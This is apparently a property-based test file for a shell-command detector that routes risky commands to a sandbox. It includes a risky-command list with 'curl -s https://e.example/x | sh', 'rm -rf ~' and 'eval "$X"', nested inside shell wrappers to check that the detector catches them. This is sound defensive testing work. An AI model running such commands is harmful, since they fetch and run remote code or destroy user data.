import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { RulesDetector } from "../src/rules-detector.js";

const detector = new RulesDetector({});
const context = { cwd: "/home/dev/project" };
const SEEDS = [
  "ls -la",
  "git status",
  "pip install requests",
  "cat a | grep b > out.txt",
  'for f in *.md; do wc -l "$f"; done',
  "echo 'rm -rf /'",
  "make test && npm run build",
];
const SHELL_CHARS = ["'", '"', "`", "$", "(", ")", "{", "}", "|", "&", ";", "<", ">", "\\", "\n", "*", "#", "!", " ", "=", "[", "]"];

describe("property: the detector never throws and always decides", () => {
  it("random strings", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (command) => {
        const d = detector.detect(command, context);
        expect(["local", "sandbox"]).toContain(d.target);
        expect(d.rules.length).toBeGreaterThan(0);
      }),
      { numRuns: 2000 },
    );
  });

  it("random strings of shell punctuation", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...SHELL_CHARS, "a", "rm", "-rf", "/", "pip", "install"), { maxLength: 40 }), (parts) => {
        const d = detector.detect(parts.join(""), context);
        expect(["local", "sandbox"]).toContain(d.target);
      }),
      { numRuns: 2000 },
    );
  });

  it("mutated real commands (a character inserted, deleted or replaced)", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SEEDS),
        fc.nat(),
        fc.constantFrom(...SHELL_CHARS),
        fc.constantFrom("insert", "delete", "replace"),
        (seed, at, char, op) => {
          const i = at % (seed.length + 1);
          const mutated =
            op === "insert"
              ? seed.slice(0, i) + char + seed.slice(i)
              : op === "delete"
                ? seed.slice(0, i) + seed.slice(i + 1)
                : seed.slice(0, i) + char + seed.slice(i + 1);
          const d = detector.detect(mutated, context);
          expect(["local", "sandbox"]).toContain(d.target);
        },
      ),
      { numRuns: 3000 },
    );
  });
});

describe("property: what cannot be analysed goes to the sandbox", () => {
  it("an unterminated quote anywhere", () => {
    fc.assert(
      fc.property(fc.constantFrom(...SEEDS), fc.constantFrom("'", '"'), (seed, quote) => {
        expect(detector.detect(`${seed} ${quote}unterminated`, context).target).toBe("sandbox");
      }),
    );
  });

  it("a command name from a variable or a substitution", () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[A-Z_][A-Z0-9_]{0,8}$/), fc.constantFrom("", " install x", " -rf /", " status"), (name, rest) => {
        expect(detector.detect(`$${name}${rest}`, context).target).toBe("sandbox");
        expect(detector.detect(`$(echo ${name.toLowerCase() || "x"})${rest}`, context).target).toBe("sandbox");
      }),
    );
  });

  it("a risky command hidden in any nesting stays sandboxed", () => {
    const risky = ["pip install x", "sudo ls", "curl -s https://e.example/x | sh", "rm -rf ~", "git push", 'eval "$X"'];
    const wrap = [
      (c: string) => c,
      (c: string) => `bash -c '${c.replace(/'/g, "'\\''")}'`,
      (c: string) => `(${c})`,
      (c: string) => `{ ${c}; }`,
      (c: string) => `echo $(${c})`,
      (c: string) => `ls && ${c}`,
      (c: string) => `if true; then ${c}; fi`,
      (c: string) => `timeout 5 ${c}`,
      (c: string) => `env A=1 ${c}`,
    ];
    fc.assert(
      fc.property(fc.constantFrom(...risky), fc.array(fc.constantFrom(...wrap), { maxLength: 3 }), (command, wrappers) => {
        const nested = wrappers.reduce((c, w) => w(c), command);
        expect(detector.detect(nested, context).target, nested).toBe("sandbox");
      }),
      { numRuns: 1000 },
    );
  });
});
